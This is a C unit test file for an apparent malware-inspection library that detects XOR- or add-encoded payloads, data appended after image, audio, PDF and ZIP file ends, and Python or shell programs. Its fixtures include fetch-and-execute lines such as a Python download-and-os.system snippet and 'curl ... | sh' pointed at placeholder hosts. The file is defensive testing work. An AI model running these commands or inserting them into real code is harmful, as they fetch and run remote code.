/* SPDX-License-Identifier: Apache-2.0 */
/* crib and tails: every key of one byte, keys of several, what only looks like
 * one, and where pictures and sounds end; no read past the end of anything. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/limits.h"
#include "base/mem.h"
#include "base/str.h"
#include "inspect/layers/crib.h"
#include "flow/program.h"
#include "inspect/layers/tails.h"

static const char program[] = "import urllib.request, os\n"
    "os.system(urllib.request.urlopen('https://x.example.invalid').read())\n";
#define LEN (sizeof(program) - 1)

static void
expect_hidden(const uint8_t *hidden, size_t at, size_t size, const char *name)
{
	/* On the heap and no longer, so that a sanitizer sees what is read. */
	uint8_t *copy = mem_alloc(size), *text;
	struct crib c;

	memcpy(copy, hidden, size);
	assert_true(crib_find(copy, size, &c));
	assert_string_equal(c.name, name);
	assert_true(c.at <= at && c.at + c.len >= at + LEN);
	text = crib_undo(copy, &c);
	assert_memory_equal(text + (at - c.at), program, LEN);
	free(text);
	free(copy);
}

static void
finds_every_byte_key(void **state)
{
	uint8_t hidden[40 + LEN];
	char name[32];

	(void)state;
	memset(hidden, 0, sizeof(hidden));
	for (unsigned int key = 1; key < 256; key++) {
		if (key == 0x20 || key == 0xe0)
			continue;
		for (size_t i = 0; i < LEN; i++)
			hidden[40 + i] = (uint8_t)program[i] ^ (uint8_t)key;
		(void)snprintf(name, sizeof(name), "xor:0x%02x", key);
		expect_hidden(hidden, 40, sizeof(hidden), name);
		/* The highest bit is the same either way. */
		if (key == 0x80)
			continue;
		for (size_t i = 0; i < LEN; i++)
			hidden[40 + i] = (uint8_t)((uint8_t)program[i] + key);
		(void)snprintf(name, sizeof(name), "add:%u", key);
		expect_hidden(hidden, 40, sizeof(hidden), name);
	}
}

static void
finds_longer_keys(void **state)
{
	static const uint8_t key[] = "k3Yz0#Qp";
	uint8_t hidden[LEN];

	(void)state;
	for (size_t n = 2; n <= CRIB_KEY_MOST; n++) {
		struct crib c;
		uint8_t *text;

		for (size_t i = 0; i < LEN; i++)
			hidden[i] = (uint8_t)program[i] ^ key[i % n];
		assert_true(crib_find(hidden, LEN, &c));
		assert_int_equal(c.period, n);
		assert_int_equal(c.at, 0);
		assert_int_equal(c.len, LEN);
		text = crib_undo(hidden, &c);
		assert_memory_equal(text, program, LEN);
		free(text);
	}
}

static void
finds_nothing_in_plain_text_and_noise(void **state)
{
	char loud[LEN];
	uint8_t noise[4096];
	uint32_t seed = 7;
	struct crib c;

	(void)state;
	assert_false(crib_find((const uint8_t *)program, LEN, &c));
	/* A table of words in capitals is no text under a key. */
	for (size_t i = 0; i < LEN; i++)
		loud[i] = (char)(program[i] ^ 0x20);
	assert_false(crib_find((const uint8_t *)loud, LEN, &c));
	for (unsigned int turn = 0; turn < 64; turn++) {
		size_t size = turn < 48 ? turn : sizeof(noise);
		uint8_t *copy;

		for (size_t i = 0; i < size; i++) {
			seed = seed * 1664525u + 1013904223u;
			noise[i] = (uint8_t)(seed >> 24);
		}
		copy = mem_alloc(size + (size == 0));
		memcpy(copy, noise, size);
		assert_false(crib_find(copy, size, &c));
		free(copy);
	}
}

static void
finds_a_program_by_its_stub(void **state)
{
	uint8_t image[256] = "MZ";
	struct crib c;
	uint8_t *plain;

	(void)state;
	memcpy(image + 0x4e, "This program cannot be run in DOS mode", 38);
	for (size_t i = 0; i < sizeof(image); i++)
		image[i] ^= 0x5a;
	assert_true(crib_find(image, sizeof(image), &c));
	assert_int_equal(c.at, 0);
	assert_int_equal(c.len, sizeof(image));
	plain = crib_undo(image, &c);
	assert_memory_equal(plain, "MZ", 2);
	free(plain);
}

/* ---- ends of files ------------------------------------------------------ */

#define PNG "\x89PNG\r\n\x1a\n" "\0\0\0\2IDATxxcccc" "\0\0\0\0IENDcccc"
#define GIF "GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0" \
    "\2\2D\1\0;"
#define JPEG "\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" \
    "\xff\xda\0\4\1\1" "aa\xff\0bb\xff\xd0" "cc\xff\xd9"
#define WAV "RIFF\x20\0\0\0WAVEdata\x14\0\0\0aaaaaaaaaaaaaaaaaaaa"
#define BMP "BM\x40\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0aaaaaaaaaaaaaaaaaaaa" \
    "aaaaaaaaaaaaaaaaaaaaaaaaaa"
#define PDF "%PDF-1.4\n%%EOF\nobj 2 0 obj\n%%EOF"
#define ZIP "PK\3\4aaaaaaaaaaaaaaaaPK\5\6aaaaaaaaaaaaaaaa\2\0ok"

static void
finds_ends(void **state)
{
	static const struct { const char *data, *name; size_t len; } files[] = {
		{ PNG, "png-tail", sizeof(PNG) - 1 },
		{ GIF, "gif-tail", sizeof(GIF) - 1 },
		{ JPEG, "jpeg-tail", sizeof(JPEG) - 1 },
		{ WAV, "riff-tail", sizeof(WAV) - 1 },
		{ BMP, "bmp-tail", sizeof(BMP) - 1 },
		{ PDF, "pdf-tail", sizeof(PDF) - 1 },
		{ ZIP, "zip-tail", sizeof(ZIP) - 1 } };

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(files); i++) {
		size_t len = files[i].len;
		const char *name = "";
		uint8_t *whole = mem_alloc(len + 20);

		memcpy(whole, files[i].data, len);
		assert_int_equal(tails_find(whole, len, &name), len);
		memcpy(whole + len, "curl -s x | sh 12345", 20);
		assert_int_equal(tails_find(whole, len + 20, &name), len);
		assert_string_equal(name, files[i].name);
		free(whole);
		for (size_t cut = 0; cut < len; cut++) {
			whole = mem_alloc(cut + 1);
			memcpy(whole, files[i].data, cut);
			assert_true(tails_find(whole, cut, &name) <= cut);
			free(whole);
		}
	}
}

#define IS(what, text) what((const uint8_t *)(text), sizeof(text) - 1)

static void
tells_programs(void **state)
{
	(void)state;
	assert_true(IS(program_is_python, "import os;os.system('id')"));
	assert_false(IS(program_is_python, "import numpy\nnumpy.array(1)"));
	assert_true(IS(program_is_shell, "curl -s https://x.invalid | sh"));
	assert_true(IS(program_is_shell, "#!/bin/sh\nwget x"));
	assert_false(IS(program_is_shell, "see how curl is made"));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_every_byte_key),
		cmocka_unit_test(finds_longer_keys),
		cmocka_unit_test(finds_nothing_in_plain_text_and_noise),
		cmocka_unit_test(finds_a_program_by_its_stub),
		cmocka_unit_test(finds_ends),
		cmocka_unit_test(tells_programs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
